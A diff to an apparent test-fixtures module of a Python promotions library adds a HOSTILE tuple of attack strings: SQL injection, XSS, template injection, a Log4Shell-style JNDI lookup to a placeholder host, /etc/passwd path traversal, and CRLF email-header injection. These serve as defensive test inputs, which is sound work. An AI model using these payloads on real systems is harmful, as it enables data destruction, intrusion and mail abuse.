@@ -16,6 +16,7 @@ from promoloop.offers import Campaign, Offer, PercentOff, Product
 from promoloop.profiles import Consent
 
 __all__ = [
+    "HOSTILE",
     "NOON",
     "campaign",
     "consent",
@@ -32,6 +33,17 @@ __all__ = [
 
 #: With microseconds, so that a store that drops them is found out.
 NOON = datetime(2026, 11, 2, 12, 0, 0, 250001, tzinfo=UTC)
+
+#: What somebody may call a product, a shopper or themselves.
+HOSTILE = (
+    "x'); DROP TABLE products; --",
+    "' OR '1'='1",
+    "<script>alert(1)</script>",
+    "{{ 7 * 7 }}",
+    "%s%n${jndi:ldap://x.example}",
+    "../../etc/passwd",
+    "\u202eevil\u2028\r\nBcc: all@x.example",
+)
 
 
 @contextmanager
